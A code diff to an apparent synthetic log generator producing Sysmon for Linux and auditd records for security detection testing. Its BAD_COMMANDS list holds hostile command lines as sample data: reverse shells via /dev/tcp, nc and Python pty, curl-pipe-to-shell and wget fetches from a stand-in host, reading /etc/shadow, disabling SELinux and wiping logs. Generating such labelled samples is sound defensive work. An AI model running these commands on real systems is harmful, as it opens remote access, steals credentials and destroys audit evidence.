@@ -27,12 +27,22 @@ COMMANDS = (
     ("/usr/sbin/nginx", "nginx: worker process"), ("/usr/bin/sed", "sed -e s/a/b/ -i /srv/app/conf/{n}.ini"),
     ("/usr/bin/date", "date +%s"), ("/usr/bin/node", "node /srv/app/server.js --port={n}"),
     ("/usr/bin/tar", "tar czf /backup/{n}.tgz /srv/app"), ("/usr/bin/git", "git pull --rebase"),
+    ("/usr/lib/postgresql/15/bin/postgres", "postgres: app app 10.2.3.4({n}) SELECT"),
+    ("/usr/sbin/cron", "/usr/sbin/cron -f -P"), ("/usr/bin/awk", "awk {print $2} /srv/app/list.{n}"),
 )  # fmt: skip
 BAD_COMMANDS = (
     ("/usr/bin/bash", "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"), ("/usr/bin/curl", "curl -s http://198.51.100.9/x.sh | sh"),
     ("/usr/bin/cat", "cat /etc/shadow"), ("/usr/bin/base64", "base64 -d /tmp/.x"), ("/usr/bin/crontab", "crontab -e /tmp/c"),
     ("/usr/bin/chmod", "chmod u+s /tmp/.hidden/bash"), ("/usr/bin/rm", "rm -rf /var/log/auth.log"), ("/usr/sbin/iptables", "iptables -F"),
+    ("/usr/bin/nc", "nc -e /bin/sh 198.51.100.9 4444"), ("/usr/bin/wget", "wget -q http://198.51.100.9/miner -O /tmp/miner"),
+    ("/usr/sbin/setenforce", "setenforce 0"), ("/usr/bin/python3.11", "python3 -c 'import pty;pty.spawn(\"/bin/sh\")'"),
+    ("/usr/bin/perl", 'perl -e use Socket;$i="198.51.100.9"'), ("/usr/bin/history", "history -c"),
 )  # fmt: skip
+PARENTS = (
+    ("/usr/lib/systemd/systemd", "/sbin/init"), ("/usr/bin/dash", "sh -c run-parts"), ("/usr/sbin/cron", "/usr/sbin/cron -f"),
+    ("/usr/bin/containerd-shim", "containerd-shim -namespace moby"),
+)  # fmt: skip
+SUCCESS = {"arch": "c000003e", "success": "yes", "exit": 0, "items": 2}
 
 
 class Maker:
@@ -91,21 +101,47 @@ class Maker:
         )
 
     def _json(self, *, suspicious: bool) -> str:
+        """Sysmon for Linux (six in ten), auditd EXECVE and SYSCALL; 0.55 kB, with the fields that name a log source."""
         draw, number = self._draw, self._draw.randrange(300, 4_000_000)
         image, command = draw.choice(BAD_COMMANDS if suspicious else COMMANDS)
         command = command.replace("{n}", str(number))
-        at = f"{self._at:%Y-%m-%dT%H:%M:%S}Z"
+        at = f"{self._at:%Y-%m-%dT%H:%M:%S.%f}"[:-3] + "Z"
         record: dict[str, Any] = {"timestamp": at, "host": draw.choice(HOSTS), "product": "linux"}
         kind = draw.randrange(10)
-        if kind < 6:  # Sysmon for Linux
-            record |= {"category": "process_creation", "EventID": 1, "ProcessGuid": f"{{{number:08x}-0001}}", "ProcessId": number,
-                       "Image": image, "CommandLine": command, "CurrentDirectory": draw.choice(("/", "/srv/app")), "User": draw.choice(USERS),
-                       "LogonId": number % 9_999, "Hashes": "-", "ParentProcessId": number // 2, "ParentImage": "/usr/lib/systemd/systemd",
-                       "ParentCommandLine": draw.choice(("/sbin/init", "sh -c run-parts", "containerd-shim -namespace moby"))}  # fmt: skip
-        elif kind < 8:  # auditd
-            record |= {"service": "auditd", "type": "EXECVE", "msg": f"audit({number}.001:{number})"}
-            record |= {f"a{place}": word for place, word in enumerate(command.split(" ")[:8])}
+        if kind < 6:
+            record |= {"category": "process_creation"} | self._sysmon(number, at, image, command)
+        elif kind < 8:
+            words = command.split(" ")[:8]
+            record |= {
+                "service": "auditd",
+                "type": "EXECVE",
+                "msg": f"audit({number}.001:{number})",
+                "argc": len(words),
+            }
+            record |= {f"a{place}": word for place, word in enumerate(words)}
         else:
-            record |= {"service": "auditd", "type": "SYSCALL", "arch": "c000003e", "syscall": draw.choice(("execve", "openat", "close")),
-                       "success": "yes", "pid": number, "uid": number % 1_100, "comm": image.rpartition("/")[2], "exe": image, "key": "(null)"}  # fmt: skip
+            record |= {"service": "auditd", "type": "SYSCALL"} | SUCCESS
+            record |= {
+                "syscall": draw.choice(("execve", "openat", "connect", "close")),
+                "ppid": number // 2,
+                "pid": number,
+            }
+            record |= {"a0": f"{draw.getrandbits(48):x}", "a1": f"{draw.getrandbits(48):x}"}
+            record |= dict.fromkeys(("auid", "uid", "gid", "euid", "suid", "fsuid"), number % 1_100)
+            record |= {"tty": "pts0", "ses": number % 9_999, "comm": image.rpartition("/")[2], "exe": image}
+            record |= {"key": draw.choice(("(null)", "rootcmd", "exec"))}
         return json.dumps(record, separators=(",", ":"))
+
+    def _sysmon(self, number: int, at: str, image: str, command: str) -> dict[str, Any]:
+        """Event 1, process creation, as Sysmon for Linux names its fields."""
+        draw = self._draw
+        user, (parent_image, parent_command) = draw.choice(USERS), draw.choice(PARENTS)
+        nothing = dict.fromkeys(("FileVersion", "Description", "Product", "Company", "OriginalFileName"), "-")
+        return {
+            "Provider_Name": "Linux-Sysmon", "EventID": 1, "RuleName": "-", "UtcTime": at,
+            "ProcessGuid": f"{{{number:08x}-3f2a-65e1-{draw.getrandbits(16):04x}-{draw.getrandbits(48):012x}}}", "ProcessId": number,
+            "Image": image, **nothing, "CommandLine": command, "CurrentDirectory": draw.choice(("/", "/srv/app", f"/home/{user}")),
+            "User": user, "LogonGuid": f"{{{draw.getrandbits(32):08x}-0000-0000-0000-000000000000}}", "LogonId": number % 99_999,
+            "TerminalSessionId": number % 9_999, "IntegrityLevel": "no level", "Hashes": "-", "ParentProcessId": number // 2,
+            "ParentImage": parent_image, "ParentCommandLine": parent_command, "ParentUser": "root",
+        }  # fmt: skip
